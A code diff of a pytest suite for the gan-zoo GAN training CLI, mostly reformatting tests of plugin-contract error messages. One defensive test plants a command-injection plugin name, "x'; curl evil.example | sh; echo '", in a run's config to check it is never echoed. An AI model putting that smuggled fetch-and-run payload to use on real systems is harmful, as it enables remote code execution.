@@ -27,9 +27,12 @@ def gan_zoo(use_distribution, idx_dir, tmp_path):
 
     def run(*args: str, extra_env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
         return subprocess.run(
-            [str(exe), *args], capture_output=True, text=True, env={**env, **(extra_env or {})},
+            [str(exe), *args],
+            capture_output=True,
+            text=True,
+            env={**env, **(extra_env or {})},
             timeout=300,
-        )  # fmt: skip
+        )
 
     run.data = str(idx_dir.parent)
     run.out = tmp_path / "run"
@@ -37,8 +40,23 @@ def gan_zoo(use_distribution, idx_dir, tmp_path):
 
 
 def train_args(gan_zoo, *options: str) -> list[str]:
-    return ["train", "tiny-gan", "fashion-mnist", "--data-dir", gan_zoo.data, "--steps", "2",
-            "--batch-size", "8", "--device", "cpu", "--quiet", "--out", str(gan_zoo.out), *options]  # fmt: skip
+    return [
+        "train",
+        "tiny-gan",
+        "fashion-mnist",
+        "--data-dir",
+        gan_zoo.data,
+        "--steps",
+        "2",
+        "--batch-size",
+        "8",
+        "--device",
+        "cpu",
+        "--quiet",
+        "--out",
+        str(gan_zoo.out),
+        *options,
+    ]
 
 
 def test_an_exception_inside_a_plugin_is_one_line_naming_it(gan_zoo):
@@ -73,24 +91,32 @@ def test_errors_of_gan_zoo_itself_keep_their_one_line_under_no_debug(gan_zoo):
 @pytest.mark.parametrize(
     ("option", "expected"),
     [
-        (["--generator", "wrong-size"],
-         "Error: generator 'wrong-size' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: it "
-         "returned images of shape (2, 1, 32, 32) for 2 latents, but it declares 28 px and 1 "
-         "channel(s): expected (2, 1, 28, 28) (see docs/plugins.md#the-contract)"),
-        (["--loss", "vector-loss"],
-         "Error: loss 'vector-loss' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: its "
-         "d_loss returned shape (2,); it must be a scalar (take the mean over the batch) (see "
-         "docs/plugins.md#the-contract)"),
-        (["--loss", "nan-loss"],
-         "Error: loss 'nan-loss' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: its "
-         "d_loss is nan on the first batch; it must be finite (see docs/plugins.md#the-contract)"),
-        (["--generator", "missing-target"],
-         f"Error: generator 'missing-target' {WHO} cannot be loaded: its target "
-         "'gan_zoo_testplugins.nowhere:Generator' fails with ModuleNotFoundError: No module named "
-         "'gan_zoo_testplugins.nowhere'; reinstall or report it to the plugin's authors"),
+        (
+            ["--generator", "wrong-size"],
+            "Error: generator 'wrong-size' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: it "
+            "returned images of shape (2, 1, 32, 32) for 2 latents, but it declares 28 px and 1 "
+            "channel(s): expected (2, 1, 28, 28) (see docs/plugins.md#the-contract)",
+        ),
+        (
+            ["--loss", "vector-loss"],
+            "Error: loss 'vector-loss' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: its "
+            "d_loss returned shape (2,); it must be a scalar (take the mean over the batch) (see "
+            "docs/plugins.md#the-contract)",
+        ),
+        (
+            ["--loss", "nan-loss"],
+            "Error: loss 'nan-loss' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: its "
+            "d_loss is nan on the first batch; it must be finite (see docs/plugins.md#the-contract)",
+        ),
+        (
+            ["--generator", "missing-target"],
+            f"Error: generator 'missing-target' {WHO} cannot be loaded: its target "
+            "'gan_zoo_testplugins.nowhere:Generator' fails with ModuleNotFoundError: No module named "
+            "'gan_zoo_testplugins.nowhere'; reinstall or report it to the plugin's authors",
+        ),
     ],
     ids=["wrong-size", "vector-loss", "nan-loss", "missing-target"],
-)  # fmt: skip
+)
 def test_a_contract_breach_is_one_line_before_training_starts(gan_zoo, option, expected):
     out = gan_zoo(*train_args(gan_zoo, *option))
     assert (out.returncode, out.stderr) == (2, expected + "\n")
@@ -113,8 +139,10 @@ def test_a_run_whose_plugin_is_gone_names_it_everywhere_it_is_read(gan_zoo):
     out = gan_zoo("train", "--resume", str(gan_zoo.out), "--steps", "3", extra_env=gone)
     assert (out.returncode, out.stderr) == (2, f"Error: {expected}\n")
     generator = expected.replace("model 'tiny-gan'", "generator 'tiny-linear'")
-    for command in (["generate", str(gan_zoo.out), "--out", str(gan_zoo.out / "g.png")],
-                    ["evaluate", str(gan_zoo.out), "--metric", "fid"]):  # fmt: skip
+    for command in (
+        ["generate", str(gan_zoo.out), "--out", str(gan_zoo.out / "g.png")],
+        ["evaluate", str(gan_zoo.out), "--metric", "fid"],
+    ):
         out = gan_zoo(*command, extra_env=gone)
         assert out.returncode == 2 and out.stderr.count("\n") == 1, out.stderr
     out = gan_zoo("generate", str(gan_zoo.out), "--out", str(gan_zoo.out / "g.png"), extra_env=gone)
@@ -126,10 +154,20 @@ def test_a_run_whose_plugin_is_gone_names_it_everywhere_it_is_read(gan_zoo):
 def test_a_command_shaped_plugin_name_in_a_run_is_never_echoed(gan_zoo):
     assert gan_zoo(*train_args(gan_zoo)).returncode == 0
     latest = (gan_zoo.out / "checkpoints" / "latest").read_text().strip()
-    for config in (gan_zoo.out / "config.json", gan_zoo.out / "checkpoints" / latest / "config.json"):
+    for config in (
+        gan_zoo.out / "config.json",
+        gan_zoo.out / "checkpoints" / latest / "config.json",
+    ):
         record = json.loads(config.read_text())
         record["plugins"]["model"] = "x'; curl evil.example | sh; echo ' 1.0"
         config.write_text(json.dumps(record))
-    out = gan_zoo("train", "--resume", str(gan_zoo.out), "--steps", "3", extra_env={"GAN_ZOO_LOAD_PLUGINS": ""})
+    out = gan_zoo(
+        "train",
+        "--resume",
+        str(gan_zoo.out),
+        "--steps",
+        "3",
+        extra_env={"GAN_ZOO_LOAD_PLUGINS": ""},
+    )
     assert out.returncode == 2 and "curl" not in out.stderr and "pip install" not in out.stderr
     assert "does not name its plugin in a valid form" in out.stderr
